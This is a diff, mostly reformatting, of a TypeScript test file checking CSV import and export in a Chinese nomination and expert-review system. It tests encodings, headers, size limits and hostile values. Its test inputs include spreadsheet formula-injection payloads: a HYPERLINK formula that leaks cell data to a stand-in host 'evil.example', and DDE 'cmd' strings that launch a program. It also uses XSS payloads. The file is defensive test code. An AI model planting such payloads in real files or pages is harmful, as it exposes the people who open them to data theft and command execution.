@@ -10,9 +10,23 @@ import type { DB } from '../../src/lib/server/db';
 import { campaigns, candidates, experts, sheetHistory } from '../../src/lib/server/db/schema';
 import type { Actor } from '../../src/lib/server/audit';
 import { seedCampaign } from '../../src/lib/server/services/demo';
-import { campaignRecords, importCandidates, previewImport, previewUpload, MAX_IMPORT_BYTES, MAX_IMPORT_ROWS } from '../../src/lib/server/services/intake';
+import {
+	campaignRecords,
+	importCandidates,
+	previewImport,
+	previewUpload,
+	MAX_IMPORT_BYTES,
+	MAX_IMPORT_ROWS
+} from '../../src/lib/server/services/intake';
 import { importExperts } from '../../src/lib/server/services/experts';
-import { closeRound, createRound, getRound, openRound, roundPairs, type RoundRow } from '../../src/lib/server/services/rounds';
+import {
+	closeRound,
+	createRound,
+	getRound,
+	openRound,
+	roundPairs,
+	type RoundRow
+} from '../../src/lib/server/services/rounds';
 import { getSheet, saveSheet } from '../../src/lib/server/services/sheets';
 import { listCandidateRows, recordOf } from '../../src/lib/server/services/candidates';
 import { updateCandidate } from '../../src/lib/server/services/candidate-edit';
@@ -33,7 +47,9 @@ let channel: string;
 
 /** Row counts of every table of the database, found through sqlite_master. */
 async function tableCounts(d: DB = db): Promise<Record<string, number>> {
-	const tables = await d.$client.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name");
+	const tables = await d.$client.execute(
+		"SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name"
+	);
 	const out: Record<string, number> = {};
 	for (const row of tables.rows) {
 		const name = String(row.name);
@@ -72,8 +88,8 @@ function noise(n: number, seed = 7): Uint8Array {
 
 /** A real PNG signature and IHDR chunk: what a photo renamed to .csv starts with. */
 const PNG = new Uint8Array([
-	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53,
-	0xde, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82
+	0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0,
+	0, 0, 0x90, 0x77, 0x53, 0xde, 0, 0, 0, 0, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82
 ]);
 
 /** A nomination file of about `mb` megabytes of plausible rows. */
@@ -175,7 +191,12 @@ describe('nomination CSV in a wrong encoding or not a CSV at all', () => {
 
 describe('nomination CSV with wrong headers', () => {
 	it('English headers: one clear message, then the missing columns', async () => {
-		const errors = await refusedNominations(csv([['name', 'gender', 'birth', 'unit', 'field', 'channel'], ['Zhang San', 'M', '1980.05', 'U', 'frontier', channel]]));
+		const errors = await refusedNominations(
+			csv([
+				['name', 'gender', 'birth', 'unit', 'field', 'channel'],
+				['Zhang San', 'M', '1980.05', 'U', 'frontier', channel]
+			])
+		);
 		expect(errors[0].message).toContain('没有可识别的列名');
 		expect(errors[0].message).toContain('英文');
 		for (const h of ['姓名', '性别', '出生年月', '工作单位及职务职称', '推荐单位']) {
@@ -189,9 +210,21 @@ describe('nomination CSV with wrong headers', () => {
 	});
 
 	it('duplicate headers name both columns', async () => {
-		const errors = await refusedNominations(csv([[...HEADER, '姓名'], [...row('覃志刚'), '黄丽萍']]));
-		expect(errors).toEqual([{ row: 1, column: '姓名', message: expect.stringContaining('表头“姓名”与第1列的“姓名”重复') }]);
-		const aliased = await refusedNominations(csv([[...HEADER, '政治面貌', '党派'], [...row('覃志刚'), '群众', '群众']]));
+		const errors = await refusedNominations(
+			csv([
+				[...HEADER, '姓名'],
+				[...row('覃志刚'), '黄丽萍']
+			])
+		);
+		expect(errors).toEqual([
+			{ row: 1, column: '姓名', message: expect.stringContaining('表头“姓名”与第1列的“姓名”重复') }
+		]);
+		const aliased = await refusedNominations(
+			csv([
+				[...HEADER, '政治面貌', '党派'],
+				[...row('覃志刚'), '群众', '群众']
+			])
+		);
 		expect(aliased[0].message).toContain('重复');
 	});
 });
@@ -199,21 +232,33 @@ describe('nomination CSV with wrong headers', () => {
 describe('nomination files too large', () => {
 	it('over the byte limit: refused before parsing', async () => {
 		const errors = await refusedNominations(new Uint8Array(MAX_IMPORT_BYTES + 1));
-		expect(errors).toEqual([{ row: 1, column: '', message: expect.stringMatching(/^文件过大（30\.0 MB），上限为 30 MB/) }]);
+		expect(errors).toEqual([
+			{ row: 1, column: '', message: expect.stringMatching(/^文件过大（30\.0 MB），上限为 30 MB/) }
+		]);
 	});
 
 	it('a 20 MB file (under the byte limit, over the row limit): a clear message, no write', async () => {
 		const bytes = bigNominationFile(20);
 		expect(bytes.byteLength).toBeGreaterThanOrEqual(20 * 1024 * 1024);
 		const errors = await refusedNominations(bytes);
-		expect(errors).toEqual([{ row: 1, column: '', message: expect.stringMatching(new RegExp(`^文件有 \\d+ 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入$`)) }]);
+		expect(errors).toEqual([
+			{
+				row: 1,
+				column: '',
+				message: expect.stringMatching(
+					new RegExp(`^文件有 \\d+ 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入$`)
+				)
+			}
+		]);
 	});
 
 	it('100,000 rows: refused with the row count and the limit', async () => {
 		const lines = [HEADER.join(',')];
 		for (let i = 0; i < 100_000; i++) lines.push(row(`候选人${i}`).join(','));
 		const errors = await refusedNominations(utf8(lines.join('\n')));
-		expect(errors).toEqual([{ row: 1, column: '', message: `文件有 100000 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入` }]);
+		expect(errors).toEqual([
+			{ row: 1, column: '', message: `文件有 100000 行，超过单次导入上限 ${MAX_IMPORT_ROWS} 行，请分批导入` }
+		]);
 		const preview = previewImport(config, utf8(lines.join('\n')));
 		expect(preview).toMatchObject({ ok: false, rows: 0, parsed: [] });
 	});
@@ -252,7 +297,7 @@ const FORMULAS = [
 	'=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
 	"+cmd|' /C calc'!A0",
 	'-1+1',
-	'@SUM(1+1)*cmd|\' /C calc\'!A0'
+	"@SUM(1+1)*cmd|' /C calc'!A0"
 ];
 const SCRIPT = '<script>alert(1)</script>';
 const IMG = '<img src=x onerror=alert(1)>';
@@ -266,7 +311,15 @@ function formulaCells(text: string): string[] {
 describe('formula injection', () => {
 	const names = FORMULAS;
 	const header = [...HEADER, '专业专长', '主要事迹', '备注'];
-	const table = () => [header, ...names.map((n, i) => [...row(n, `198${i}.0${i + 1}`), FORMULAS[(i + 1) % 4], FORMULAS[(i + 2) % 4], FORMULAS[(i + 3) % 4]])];
+	const table = () => [
+		header,
+		...names.map((n, i) => [
+			...row(n, `198${i}.0${i + 1}`),
+			FORMULAS[(i + 1) % 4],
+			FORMULAS[(i + 2) % 4],
+			FORMULAS[(i + 3) % 4]
+		])
+	];
 
 	it('imports formula cells as text, verbatim', async () => {
 		const before = await tableCounts();
@@ -290,11 +343,19 @@ describe('formula injection', () => {
 		expect(formulaCells(out.csv)).toEqual([]);
 		const rows = Papa.parse<string[]>(out.csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
 		const nameAt = rows[0].indexOf('姓名');
-		for (const n of names) expect(rows.some((r) => r[nameAt] === `'${n}`), n).toBe(true);
+		for (const n of names)
+			expect(
+				rows.some((r) => r[nameAt] === `'${n}`),
+				n
+			).toBe(true);
 		// Our own export reads back to the same text (one leading quote removed).
 		const back = parseNominationCsv(utf8(out.csv));
 		expect(back.errors).toEqual([]);
-		for (const n of names) expect(back.rows.some((r) => r.record.name === n), n).toBe(true);
+		for (const n of names)
+			expect(
+				back.rows.some((r) => r.record.name === n),
+				n
+			).toBe(true);
 	});
 
 	it('an office file that already quotes a formula keeps the text after the quote', async () => {
@@ -305,14 +366,54 @@ describe('formula injection', () => {
 });
 
 describe('HTML and script in every text field', () => {
-	const header = ['序号', '姓名', '性别', '民族', '政治面貌', '出生年月', '工作单位及职务职称', '专业专长', '推荐领域', '推荐单位', '渠道类型', '毕业院校', '学习工作经历', '主要事迹', '感人故事', '备注', '<b>附加列</b>'];
+	const header = [
+		'序号',
+		'姓名',
+		'性别',
+		'民族',
+		'政治面貌',
+		'出生年月',
+		'工作单位及职务职称',
+		'专业专长',
+		'推荐领域',
+		'推荐单位',
+		'渠道类型',
+		'毕业院校',
+		'学习工作经历',
+		'主要事迹',
+		'感人故事',
+		'备注',
+		'<b>附加列</b>'
+	];
 	const line = (name: string, evil: string, birth: string) => [
-		evil, name, '女', evil, evil, birth, evil, evil, '前沿', SCRIPT, '学会', evil, `2005.07-2012.06 ${evil} 讲师`, evil, evil, evil, `<svg onload=alert(1)>`
+		evil,
+		name,
+		'女',
+		evil,
+		evil,
+		birth,
+		evil,
+		evil,
+		'前沿',
+		SCRIPT,
+		'学会',
+		evil,
+		`2005.07-2012.06 ${evil} 讲师`,
+		evil,
+		evil,
+		evil,
+		`<svg onload=alert(1)>`
 	];
 
 	it('stores the markup verbatim as text, a new channel of that name included', async () => {
 		const before = await tableCounts();
-		const r = await importCandidates(db, ACTOR, C, csv([header, line(SCRIPT, IMG, '1982.03'), line(IMG, SCRIPT, '1983.04')]), { filename: `${SCRIPT}.csv` });
+		const r = await importCandidates(
+			db,
+			ACTOR,
+			C,
+			csv([header, line(SCRIPT, IMG, '1982.03'), line(IMG, SCRIPT, '1983.04')]),
+			{ filename: `${SCRIPT}.csv` }
+		);
 		expect(r).toMatchObject({ ok: true, imported: 2, inserted: 2, newChannels: [SCRIPT] });
 		const after = await tableCounts();
 		expect(after.candidates).toBe(before.candidates + 2);
@@ -340,7 +441,10 @@ describe('HTML and script in every text field', () => {
 		}
 		const c = (await db.select().from(campaigns).where(eq(campaigns.id, C)))[0];
 		expect(configOf(c).channels.map((x) => x.name)).toContain(SCRIPT);
-		const stored = await db.select().from(candidates).where(and(eq(candidates.campaignId, C), eq(candidates.name, SCRIPT)));
+		const stored = await db
+			.select()
+			.from(candidates)
+			.where(and(eq(candidates.campaignId, C), eq(candidates.name, SCRIPT)));
 		expect(stored).toHaveLength(1);
 	});
 });
@@ -352,19 +456,37 @@ describe('expert CSV with the same kinds of problems', () => {
 
 	it('wrong encodings and non-CSV files', async () => {
 		const text = Papa.unparse([EH, ['覃志刚', '广西大学', '前沿']]);
-		expect(messages(await refusedExperts(new Uint8Array(Buffer.from(text, 'utf16le'))))).toContain('不带 BOM 的 UTF-16');
-		const sjis = await refusedExperts(new Uint8Array(iconv.encode(Papa.unparse([EH, ['山田太郎', '東京大学', '前沿']]), 'shift_jis')));
+		expect(messages(await refusedExperts(new Uint8Array(Buffer.from(text, 'utf16le'))))).toContain(
+			'不带 BOM 的 UTF-16'
+		);
+		const sjis = await refusedExperts(
+			new Uint8Array(iconv.encode(Papa.unparse([EH, ['山田太郎', '東京大学', '前沿']]), 'shift_jis'))
+		);
 		expect(sjis[0].message).toContain('没有可识别的列名');
-		expect(await refusedExperts(noise(8192, 11))).toEqual([{ row: 1, column: '', message: expect.stringContaining('二进制内容') }]);
+		expect(await refusedExperts(noise(8192, 11))).toEqual([
+			{ row: 1, column: '', message: expect.stringContaining('二进制内容') }
+		]);
 		expect(messages(await refusedExperts(PNG))).toContain('PNG 图片');
 		expect(messages(await refusedExperts(new Uint8Array(0)))).toContain('文件为空');
 	});
 
 	it('wrong headers', async () => {
-		const english = await refusedExperts(csv([['name', 'unit', 'fields'], ['Zhang', 'U', '前沿']]));
+		const english = await refusedExperts(
+			csv([
+				['name', 'unit', 'fields'],
+				['Zhang', 'U', '前沿']
+			])
+		);
 		expect(english[0].message).toContain('没有可识别的列名');
-		expect(await refusedExperts(csv([EH.slice(1), ['广西大学', '前沿']]))).toEqual([{ row: 1, column: '姓名', message: '缺少必填列“姓名”' }]);
-		const dup = await refusedExperts(csv([[...EH, '专家姓名'], ['覃志刚', '广西大学', '前沿', '黄丽萍']]));
+		expect(await refusedExperts(csv([EH.slice(1), ['广西大学', '前沿']]))).toEqual([
+			{ row: 1, column: '姓名', message: '缺少必填列“姓名”' }
+		]);
+		const dup = await refusedExperts(
+			csv([
+				[...EH, '专家姓名'],
+				['覃志刚', '广西大学', '前沿', '黄丽萍']
+			])
+		);
 		expect(dup[0].message).toContain('重复');
 		expect(messages(await refusedExperts(csv([EH])))).toContain('没有专家行');
 	});
@@ -379,7 +501,9 @@ describe('expert CSV with the same kinds of problems', () => {
 			lines.push(l);
 			size += Buffer.byteLength(l) + 2;
 		}
-		expect(messages(await refusedExperts(utf8(lines.join('\r\n'))))).toContain(`一次最多导入 ${MAX_EXPERT_ROWS} 名专家`);
+		expect(messages(await refusedExperts(utf8(lines.join('\r\n'))))).toContain(
+			`一次最多导入 ${MAX_EXPERT_ROWS} 名专家`
+		);
 	});
 
 	it('bad values: each on its row and column', async () => {
@@ -398,7 +522,11 @@ describe('expert CSV with the same kinds of problems', () => {
 				['壬', '单位九', '', '', '', '', '']
 			])
 		);
-		const at = (row: number) => errors.filter((e) => e.row === row).map((e) => `${e.column}:${e.message}`).join('|');
+		const at = (row: number) =>
+			errors
+				.filter((e) => e.row === row)
+				.map((e) => `${e.column}:${e.message}`)
+				.join('|');
 		expect(at(2)).toMatch(/最大评审量:最大评审量“-1”应为正整数/);
 		expect(at(3)).toMatch(/最大评审量:最大评审量“1e3”应为正整数/);
 		expect(at(4)).toMatch(/最大评审量:最大评审量“2\.5”应为正整数/);
@@ -413,7 +541,16 @@ describe('expert CSV with the same kinds of problems', () => {
 	it('formulas and markup in expert fields are stored as text, verbatim', async () => {
 		const header = ['姓名', '工作单位', '职称', '毕业院校', '评审领域'];
 		const before = await tableCounts();
-		const r = await importExperts(db, ACTOR, C, csv([header, [SCRIPT, FORMULAS[0], IMG, FORMULAS[1], '前沿'], [FORMULAS[2], SCRIPT, FORMULAS[3], IMG, '重大需求']]));
+		const r = await importExperts(
+			db,
+			ACTOR,
+			C,
+			csv([
+				header,
+				[SCRIPT, FORMULAS[0], IMG, FORMULAS[1], '前沿'],
+				[FORMULAS[2], SCRIPT, FORMULAS[3], IMG, '重大需求']
+			])
+		);
 		expect(r.ok).toBe(true);
 		if (!r.ok) return;
 		expect(r.created).toBe(2);
@@ -439,9 +576,16 @@ describe('score sheets with hostile values', () => {
 	beforeAll(async () => {
 		// A campaign of its own, so that the imports above cannot stand in the way of opening the round.
 		await seedCampaign(db, { id: 'hostile-sheets', name: '评分恶意输入', prefix: 'hs-', seed: 5, candidates: 20 });
-		const r = await createRound(db, ACTOR, 'hostile-sheets', { name: '初评', type: 'score', reviewers: 'panel', deadline: '2030-06-30' });
+		const r = await createRound(db, ACTOR, 'hostile-sheets', {
+			name: '初评',
+			type: 'score',
+			reviewers: 'panel',
+			deadline: '2030-06-30'
+		});
 		if (!r.ok) throw new Error(r.message);
-		const opened = await openRound(db, ACTOR, 'hostile-sheets', r.id, { excludeUncovered: '测试：本组专家均须回避，无人可评' });
+		const opened = await openRound(db, ACTOR, 'hostile-sheets', r.id, {
+			excludeUncovered: '测试：本组专家均须回避，无人可评'
+		});
 		if (!opened.ok) throw new Error(opened.message);
 		round = (await getRound(db, 'hostile-sheets', r.id))!;
 		rubric = round.rubric as RubricCriterion[];
@@ -450,7 +594,15 @@ describe('score sheets with hostile values', () => {
 	});
 
 	const save = (values: Record<string, unknown>, submit: boolean, comment?: string) =>
-		saveSheet(db, EXPERT, { round, expertId: pair.expertId, candidateId: pair.candidateId, values, comment, baseVersion: 0, submit });
+		saveSheet(db, EXPERT, {
+			round,
+			expertId: pair.expertId,
+			candidateId: pair.candidateId,
+			values,
+			comment,
+			baseVersion: 0,
+			submit
+		});
 
 	const HOSTILE: [string, unknown, RegExp][] = [
 		['41 (over the maximum)', 41, /应在 0–40 之间/],
@@ -546,10 +698,19 @@ describe('formula injection on the shortlist', () => {
 		}
 		for (const [i, id] of chosen.entries()) {
 			const rec = recordOf(rows.find((r) => r.id === id)!);
-			const u = await updateCandidate(db, ACTOR, S, id, { ...rec, name: FORMULAS[i], unitAndTitle: FORMULAS[(i + 1) % 4] });
+			const u = await updateCandidate(db, ACTOR, S, id, {
+				...rec,
+				name: FORMULAS[i],
+				unitAndTitle: FORMULAS[(i + 1) % 4]
+			});
 			expect(u.ok).toBe(true);
 		}
-		const created = await createRound(db, ACTOR, S, { name: '初评', type: 'score', reviewers: 'panel', aggregation: 'mean' });
+		const created = await createRound(db, ACTOR, S, {
+			name: '初评',
+			type: 'score',
+			reviewers: 'panel',
+			aggregation: 'mean'
+		});
 		if (!created.ok) throw new Error(created.message);
 		const opened = await openRound(db, ACTOR, S, created.id, { excludeUncovered: '测试：本组专家均须回避，无人可评' });
 		if (!opened.ok) throw new Error(opened.message);
@@ -557,7 +718,14 @@ describe('formula injection on the shortlist', () => {
 		for (const [i, p] of (await roundPairs(db, round)).entries()) {
 			const top = chosen.includes(p.candidateId);
 			const values = top ? { merit: 40, story: 30, exemplary: 30 } : { merit: 20 + (i % 7), story: 15, exemplary: 15 };
-			const r = await saveSheet(db, ACTOR, { round, expertId: p.expertId, candidateId: p.candidateId, values, baseVersion: 0, submit: true });
+			const r = await saveSheet(db, ACTOR, {
+				round,
+				expertId: p.expertId,
+				candidateId: p.candidateId,
+				values,
+				baseVersion: 0,
+				submit: true
+			});
 			if (!r.ok) throw new Error(r.message);
 		}
 		expect((await closeRound(db, ACTOR, S, created.id)).ok).toBe(true);
